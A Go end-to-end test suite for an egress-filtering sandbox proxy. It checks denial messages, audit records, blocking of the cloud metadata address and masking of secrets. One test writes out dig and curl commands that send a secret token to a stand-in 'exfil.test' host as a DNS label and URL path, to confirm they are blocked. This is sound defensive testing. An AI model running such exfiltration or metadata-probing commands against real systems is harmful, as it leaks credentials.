package e2e

import (
	"bytes"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/fakenet"
)

// Issue #7 items 4-6: one vocabulary of outcomes, denials a client can
// read, nothing the sandbox writes echoed unmasked. Run as subtests of
// TestLauncher (launcher_test.go); every verdict is scored on what the
// world saw and on what the sandbox, the launcher's stderr and its audit
// log hold.

// sections splits out, printed as "== NAME" lines each followed by a
// client's output, into NAME → output.
func sections(out string) map[string]string {
	m := map[string]string{}
	name := ""
	for _, line := range strings.Split(out, "\n") {
		if n, ok := strings.CutPrefix(line, "== "); ok {
			name = n
			continue
		}
		if name != "" {
			m[name] += line + "\n"
		}
	}
	return m
}

// THREATS A4, A6: a refusal is readable in the clients that print nothing
// but the status line of the proxy's answer — Python's urllib (a CONNECT
// that fails shows only "Tunnel connection failed: <status line>"), pip,
// wget and Go's net/http: each shows egressd's reason. Scored: the world
// served nothing for the refused name.
func testLauncherStatusLineSaysWhy(t *testing.T) {
	lw := newLauncherWorld(t)
	goClient := filepath.Join(lw.ws, "statusline")
	build := exec.Command("go", "build", "-o", goClient, "./testdata/statusline")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building the Go client: %v\n%s", err, out)
	}
	script := `echo "== urllib"; ` + sandboxPython + ` -c '
import urllib.request
for u in ("http://blocked.test/", "https://blocked.test/"):
    try:
        urllib.request.urlopen(u, timeout=10)
        print("fetched " + u)
    except Exception as e:
        print(e)
'
echo "== pip"; ` + sandboxPython + ` -m pip download --no-deps --no-cache-dir --retries 1 --timeout 5 -d /tmp/pip --index-url https://blocked.test/simple/ nothing-here 2>&1
echo "== wget"; wget --tries=1 --timeout=5 -O /dev/null http://blocked.test/ 2>&1
echo "== go"; /sandbox/statusline http://blocked.test/ https://blocked.test/
true`
	r := lw.run("--allow", "allowed.test", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	const plain, tunnel = "Forbidden by egressd: blocked.test:80 not in the allow list", "Forbidden by egressd: blocked.test:443 not in the allow list"
	out := sections(r.stdout)
	for client, want := range map[string][]string{
		"urllib": {plain, tunnel},
		"pip":    {tunnel},
		"wget":   {plain},
		"go":     {plain, tunnel},
	} {
		for _, w := range want {
			if !strings.Contains(out[client], w) {
				t.Errorf("%s does not show %q:\n%s", client, w, out[client])
			}
		}
	}
	if n := lw.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("world served %d requests for blocked.test", n)
	}
}

// stampedLines records when a line containing match first came.
type stampedLines struct {
	mu    sync.Mutex
	buf   bytes.Buffer
	match string
	at    time.Time
}

func (s *stampedLines) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.buf.Write(p)
	if s.at.IsZero() && strings.Contains(s.buf.String(), s.match) {
		s.at = time.Now()
	}
	return len(p), nil
}

func (s *stampedLines) seen() time.Time {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.at
}

// A denial is printed when it happens, while the command still runs: the
// command sleeps after its refused request, and the line must arrive
// seconds before the launcher exits.
func testLauncherDenialPrintedWhileTheCommandRuns(t *testing.T) {
	lw := newLauncherWorld(t)
	const line = "launcher: denied blocked.test:443 (no-allow-rule); allow it with --allow blocked.test:443"
	st := &stampedLines{match: line + "\n"}
	r := lw.runWith(lopts{stderr: st}, "--allow", "allowed.test", "--", "sh", "-c",
		curlArgs+" https://blocked.test/; echo refused=$?; sleep 4; echo done=1")
	end := time.Now()
	if r.code != 0 || marker(r.stdout, "done") != "1" || marker(r.stdout, "refused") == "0" {
		t.Fatalf("want the request refused and exit 0\n%s", r)
	}
	at := st.seen()
	if at.IsZero() {
		t.Fatalf("no live denial line %q\n%s", line, r)
	}
	if early := end.Sub(at); early < 2*time.Second {
		t.Errorf("the denial line came %s before the launcher exited; want it while the command ran (it slept 4s after the request)\n%s", early.Round(time.Millisecond), r)
	}
	// Once live, once in the summary after the run (with its header).
	if n := strings.Count(r.stderr, line+"\n"); n != 2 {
		t.Errorf("the denial printed %d times, want 2 (live, summary)\n%s", n, r)
	}
	if !strings.Contains(r.stderr, "launcher: 1 destination denied during the run:\n") {
		t.Errorf("no summary header\n%s", r)
	}
}

// THREATS C1, C5: a name the policy allows that resolves to the metadata
// address is refused by the address guard: through the explicit proxy
// (plain HTTP and CONNECT) the refusal is audited as a deny with reason
// guarded-address, never as an allow with the refusal hidden in "error";
// the launcher says which address and what would lift the guard. Scored:
// the world's fake metadata server saw nothing.
func testLauncherGuardedAddressAfterAllowedNameIsADenial(t *testing.T) {
	lw := newLauncherWorld(t)
	meta := netip.MustParseAddr("169.254.169.254")
	if err := lw.w.AddHost(meta); err != nil {
		t.Fatal(err)
	}
	lw.w.SetRecords("meta.test", fakenet.A(meta.String()))
	r := lw.run("--allow", "meta.test", "--", "sh", "-c",
		`curl -sS --max-time 5 -o /dev/null -w 'plain=%{http_code}\n' http://meta.test/latest/meta-data/; `+
			`curl -sS --max-time 5 -o /dev/null -w 'tunnel=%{http_connect}\n' https://meta.test/; true`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	if marker(r.stdout, "plain") != "403" || marker(r.stdout, "tunnel") != "403" {
		t.Errorf("want 403 for both requests\n%s", r)
	}
	if n := worldHTTPTo(lw.w, meta); n != 0 {
		t.Errorf("the fake metadata server served %d requests", n)
	}
	kinds := map[string]bool{}
	for _, a := range r.audit {
		if a.Target != "meta.test" || a.Kind == "dns" {
			continue
		}
		if a.Decision != "deny" || a.Reason != "guarded-address" {
			t.Errorf("audit record %+v: want deny guarded-address", a)
		}
		kinds[a.Kind] = true
	}
	if !kinds["http"] || !kinds["connect"] {
		t.Errorf("want http and connect denials of meta.test audited, got %v: %+v", kinds, r.audit)
	}
	for _, want := range []string{
		"launcher: denied meta.test:80 (guarded-address); it resolves to 169.254.169.254", "e.g. --allow 169.254.169.254:80",
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q\n%s", want, r)
		}
	}
}

// THREATS D1: an upstream resolver that does not answer is an error, not a
// denial — in the audit log (outcome error, reason resolver-timeout, for
// the lookup and for the proxy's requests) and in the launcher's own words,
// which name the resolver — while nothing egressd answers the sandbox (the
// proxy's 504s, the DNS SERVFAIL with every option it carries) names it.
func testLauncherSilentResolverIsAnErrorNotNamedToTheSandbox(t *testing.T) {
	lw := newLauncherWorld(t)
	silent := netip.MustParseAddrPort("203.0.113.99:53")
	pc, err := lw.w.ListenUDP(silent) // reads nothing, answers nothing
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	script := sandboxPython + ` -c '
import socket
def raw(req):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(req.encode())
    data = b""
    while True:
        b = s.recv(4096)
        if not b:
            break
        data += b
    return data.decode("latin-1")
print("== connect")
print(raw("CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"))
print("== http")
print(raw("GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
'
echo "== dig"; dig +time=8 +tries=1 allowed.test; true`
	r := lw.runWith(lopts{upstream: silent.Addr().String()}, "--allow", "allowed.test", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	out := sections(r.stdout)
	for name, want := range map[string]string{"connect": "HTTP/1.1 504 ", "http": "HTTP/1.1 504 ", "dig": "status: SERVFAIL"} {
		if !strings.Contains(out[name], want) {
			t.Errorf("%s: want %q in what the sandbox got:\n%s", name, want, out[name])
		}
	}
	if strings.Contains(r.stdout, silent.Addr().String()) {
		t.Errorf("the sandbox was told the upstream resolver's address:\n%s", r.stdout)
	}
	kinds := map[string]bool{}
	for _, a := range r.audit {
		if a.Target != "allowed.test" {
			continue
		}
		kinds[a.Kind] = true
		if a.Decision != "error" || a.Reason != "resolver-timeout" || !strings.Contains(a.Error, silent.Addr().String()) {
			t.Errorf("audit record %+v: want error resolver-timeout naming the resolver", a)
		}
	}
	if !kinds["dns"] || !kinds["connect"] || !kinds["http"] {
		t.Errorf("want dns, connect and http records for allowed.test, got %v", kinds)
	}
	want := "the upstream resolver " + silent.Addr().String() + " did not answer"
	if !strings.Contains(r.stderr, "launcher: error allowed.test:443 (resolver-timeout") || !strings.Contains(r.stderr, want) {
		t.Errorf("stderr does not say %q in the launcher's words\n%s", want, r)
	}
	if strings.Contains(r.stderr, "launcher: denied allowed.test") {
		t.Errorf("an upstream failure reported as a denial\n%s", r)
	}
}

const secretPathPolicy = `version = 1
[network]
allow = ["allowed.test"]

[[network.inspect]]
host = "allowed.test"
paths = ["/ok"]
`

// THREATS D4, H1: a secret the sandbox uses as a DNS label or a request
// path — in its own case, lower-cased by egressd's normalisation, cut
// short at a long path's cap — is masked in every line the launcher
// writes and in every record of its audit log; the lines are still there
// (masked), and the world saw no query for the name.
func testLauncherSecretAsNameOrPathIsMasked(t *testing.T) {
	const secret = "Xy9Secr3tT0kenQ"
	lw := inspectWorld(t, secretPathPolicy)
	script := `dig +time=3 +tries=1 "$TOKEN.exfil.test" >/dev/null; ` +
		`curl -sS --max-time 5 -o /dev/null "http://$TOKEN.exfil.test/"; ` +
		`curl -sS --max-time 5 -o /dev/null --noproxy '*' "https://$TOKEN.exfil.test/"; ` +
		`curl -sS --max-time 10 -o /dev/null "https://allowed.test/v1/$TOKEN"; ` +
		`curl -sS --max-time 10 -o /dev/null "https://allowed.test/$(printf 'a%.0s' $(seq 245))$TOKEN"; echo done=1`
	r := lw.runInspect(lopts{}, "--secret", "TOKEN="+secret, "--", "sh", "-c", script)
	if marker(r.stdout, "done") != "1" {
		t.Fatalf("the script did not finish\n%s", r)
	}
	lower := strings.ToLower(secret)
	for where, text := range map[string]string{"stderr": r.stderr, "audit log": r.auditRaw, "stdout": r.stdout} {
		for _, form := range []string{secret, lower, secret[:8], lower[:8]} {
			if strings.Contains(text, form) {
				t.Errorf("%s holds %q (a form of the secret):\n%s", where, form, text)
			}
		}
	}
	for _, want := range []string{"denied ***.exfil.test", "denied GET allowed.test:443/v1/***"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks the masked line %q\n%s", want, r)
		}
	}
	// The name, and the long path egressd cut inside the secret.
	for _, want := range []string{`"***.exfil.test"`, `***..."`} {
		if !strings.Contains(r.auditRaw, want) {
			t.Errorf("the audit log lacks %s\n%s", want, r.auditRaw)
		}
	}
	if n := lw.w.DNSQueries(lower + ".exfil.test"); n != 0 {
		t.Errorf("the world's DNS saw %d queries for the secret's name", n)
	}
	for _, req := range lw.w.HTTPLog() {
		if strings.Contains(req.URI, secret) {
			t.Errorf("the world served %s", req.URI)
		}
	}
}

// A denial the sandbox reads (the X-Egressd-Denied header and the 403's
// body, plain HTTP and CONNECT) names the rule where the user wrote it,
// the --policy file's path and line, never egressd's private policy
// snapshot or its line numbers.
func testLauncherDenialNamesTheUsersRule(t *testing.T) {
	lw := newLauncherWorld(t)
	pol := filepath.Join(t.TempDir(), "tenant.toml")
	// blocked.test's rule is on line 6 of the user's file.
	if err := os.WriteFile(pol, []byte("version = 1\n\n[network]\nallow = [\"allowed.test\"]\nblock = [\n  \"blocked.test\",\n]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := lw.run("--policy", pol, "--", "sh", "-c",
		`curl -sS --max-time 5 -D - http://blocked.test/; echo; curl -sS --max-time 5 -v https://blocked.test/ 2>&1; true`)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	want := "X-Egressd-Denied: blocked-by blocked.test (" + pol + ":6)"
	if n := strings.Count(r.stdout, want); n != 2 {
		t.Errorf("the sandbox read %q %d times, want 2 (plain HTTP, CONNECT)\n%s", want, n, r.stdout)
	}
	if n := strings.Count(r.stdout, "egressd: denied blocked.test:80: blocked-by blocked.test ("+pol+":6)"); n != 1 {
		t.Errorf("the 403 body names the user's rule %d times, want 1\n%s", n, r.stdout)
	}
	// The snapshot is egressd's policy.toml beside its sources.json.
	for _, leak := range []string{"policy.toml", "sources.json"} {
		if strings.Contains(r.stdout, leak) {
			t.Errorf("what the sandbox read names egressd's snapshot (%q)\n%s", leak, r.stdout)
		}
	}
	if n := lw.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("world served %d requests for blocked.test", n)
	}
}
